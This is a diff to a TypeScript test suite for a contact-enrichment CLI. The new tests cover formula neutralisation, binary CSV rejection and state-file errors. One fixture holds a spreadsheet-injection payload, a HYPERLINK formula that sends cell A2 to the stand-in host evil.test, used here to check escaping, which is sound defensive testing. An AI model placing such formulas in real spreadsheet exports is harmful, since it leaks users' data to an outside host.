@@ -7,12 +7,24 @@ import { existsSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join, resolve } from 'node:path';
 import { parseCsv } from '../../scripts/lib/csv';
-import { readOutputs } from '../../scripts/lib/sheet-outputs';
+import { outputRows, readOutputs } from '../../scripts/lib/sheet-outputs';
 import { sampleContacts } from '../../dev/emulator/sample';
 import { contactRows, engineKit, people, SEED } from './support/engine';
 
 const SECRET = 'sk-cli-Secret-0042';
-const kit = engineKit({ keys: [SECRET] });
+/** Someone the API answers about with strings that would run as formulas in a spreadsheet. */
+const HOSTILE_STATUS = '=HYPERLINK("http://evil.test/?leak="&A2,"Verified")';
+const HOSTILE = {
+  first_name: 'Mallory',
+  last_name: 'Formula',
+  company_domain: 'evil-formula.test',
+  company_name: 'Evil Formula',
+  work_email: 'mallory@evil-formula.test',
+  work_email_status: HOSTILE_STATUS,
+  phone: '+33 6 12 34 56 78',
+  country_code: 'FR',
+};
+const kit = engineKit({ keys: [SECRET], data: { people: [HOSTILE] } });
 const ROOT = resolve(__dirname, '../..');
 
 interface CliResult {
@@ -32,11 +44,14 @@ function cli(args: string[], timeout = 60_000): Promise<CliResult> {
   });
 }
 
-function csvFile(name: string, text: string): string {
+function csvFile(name: string, text: string | Buffer): string {
   const file = join(mkdtempSync(join(tmpdir(), 'sheet-enrich-cli-')), name);
   writeFileSync(file, text);
   return file;
 }
+
+/** The first bytes of a zip (an .xlsx is one): what "save as .csv" by mistake gives. */
+const ZIP_HEADER = Buffer.from([0x50, 0x4b, 0x03, 0x04, 0x14, 0x00, 0x00, 0x00, 0x08, 0x00]);
 
 const api = () => ['--api-url', kit.emulator().baseUrl, '--api-key', SECRET, '--poll-ms', '200'];
 
@@ -83,6 +98,26 @@ describe('npm run enrich', () => {
       expect(seen).not.toContain(SECRET);
   });
 
+  it("neutralises formulas in the API's answers and keeps the user's own cells exactly", async () => {
+    const header = ['First name', 'Last name', 'Company', 'Note'];
+    const mine = ['Mallory', 'Formula', 'Evil Formula', '=SUM(1)'];
+    const file = csvFile('hostile.csv', [header, mine].map((row) => row.join(',')).join('\n'));
+    const out = join(file, '..', 'out.csv');
+    const result = await cli([file, '--out', out, ...api()]);
+    expect(result).toMatchObject({ code: 0 });
+
+    const text = readFileSync(out, 'utf8');
+    const [written] = parseCsv(text).slice(1);
+    expect(written!.slice(0, 4)).toEqual(mine);
+    const outputs = outputRows(parseCsv(text), 'enrich')[0]!;
+    expect(outputs).toMatchObject({
+      workEmail: HOSTILE.work_email,
+      workEmailStatus: `'${HOSTILE_STATUS}`,
+      phone: "'+33 6 12 34 56 78",
+    });
+    expect(text).toContain('=SUM(1),');
+  });
+
   it('runs a reverse lookup into --out with its own --state', async () => {
     const contacts = sampleContacts(SEED, 6, { withWorkEmail: true, unknownShare: 0 });
     const file = csvFile('emails.csv', ['Email', ...contacts.map((c) => c.workEmail)].join('\n'));
@@ -101,19 +136,20 @@ describe('npm run enrich', () => {
     ['an unclosed quote', 'First name,Last name,Company\n"Ada,Lovelace,Acme\n', /closing quote/],
     ['no usable column', 'Foo,Bar\n1,2\n', /No header row found|No usable column/],
     ['only an email column', 'Email\nada@acme.test\n', /No usable column found \(columns: "Email"\)/],
-  ])('refuses %s with a message and exit code 2', async (_what, text, message) => {
-    const result = await cli([csvFile('bad.csv', text), ...api()]);
+    ['a zip saved as .csv', ZIP_HEADER, /bad\.csv is not a text CSV file\.$/],
+    ['binary behind a UTF-16 BOM', Buffer.concat([Buffer.from([0xff, 0xfe]), ZIP_HEADER]), /not a text CSV/],
+  ])('refuses %s with one line (no usage text) and exit code 2', async (_what, content, message) => {
+    const result = await cli([csvFile('bad.csv', content), ...api()]);
     expect(result.code).toBe(2);
-    expect(result.stderr).toMatch(message);
-    expect(result.stderr).not.toMatch(/\n\s+at /);
+    expect(result.stderr.trim().split('\n')).toEqual([expect.stringMatching(message)]);
   });
 
-  it('refuses an unknown flag and a missing file', async () => {
+  it('refuses an unknown flag with the usage text, a missing file with one line', async () => {
     const flag = await cli(['x.csv', '--colour']);
     expect(flag.code).toBe(2);
     expect(flag.stderr).toMatch(/Unknown option '--colour'[\s\S]*Usage:/);
     const missing = await cli(['/nonexistent/x.csv']);
-    expect(missing).toMatchObject({ code: 2, stderr: expect.stringMatching(/No such file/) });
+    expect(missing).toMatchObject({ code: 2, stderr: 'sheet-enrich: No such file: /nonexistent/x.csv\n' });
   });
 
   it('says the key was refused without printing it', async () => {
@@ -154,11 +190,32 @@ describe('npm run enrich', () => {
     expect(readOutputs(table, 'enrich').found.workEmail).toBeGreaterThan(0);
   });
 
+  /** A state file that is valid in every part but `properties.document`. */
+  const stateWithDocument = (document: unknown) =>
+    JSON.stringify({
+      version: 1,
+      clockOffsetMs: 0,
+      spreadsheet: { id: 'local', name: 'Contacts', activeSheetId: 0, sheets: [] },
+      properties: { document, user: {}, script: {} },
+      triggers: [],
+    });
+
   it.each([
-    ['garbage', '{not json'],
-    ['the right version of the wrong shape', JSON.stringify({ version: 1, spreadsheet: 1, properties: 'x' })],
-    ['another version', JSON.stringify({ version: 7 })],
-  ])('refuses a state file of %s with one line and exit code 2', async (_what, content) => {
+    ['garbage', '{not json', /not JSON/],
+    [
+      'the right version of the wrong shape',
+      JSON.stringify({ version: 1, spreadsheet: 1, properties: 'x' }),
+      /unexpected shape at /,
+    ],
+    [
+      'a document property that is not a string',
+      stateWithDocument({ runs: 1 }),
+      /shape at properties\.document\.runs/,
+    ],
+    ['a document properties list', stateWithDocument(['a']), /shape at properties\.document\)/],
+    ['another version', JSON.stringify({ version: 7 }), /format version 7, .* this one reads version 1/],
+    ['no version', JSON.stringify({ spreadsheet: {} }), /not a sheet-enrich state file/],
+  ])('refuses a state file of %s with one line and exit code 2', async (_what, content, reason) => {
     const file = csvFile('c.csv', contactRows(people(3)).join('\n'));
     const state = join(file, '..', 'state.json');
     writeFileSync(state, content);
@@ -169,5 +226,13 @@ describe('npm run enrich', () => {
         /^sheet-enrich: The state file .* cannot be read \(.+\): delete it or pick another with --state\.$/,
       ),
     ]);
+    expect(result.stderr).toMatch(reason);
+  });
+
+  it('names the reason when the state file cannot be read at all', async () => {
+    const file = csvFile('c.csv', contactRows(people(3)).join('\n'));
+    const result = await cli([file, '--state', join(file, '..'), ...api()]);
+    expect(result.code).toBe(2);
+    expect(result.stderr).toMatch(/^sheet-enrich: The state file .* cannot be read \(EISDIR\): delete it/);
   });
 });
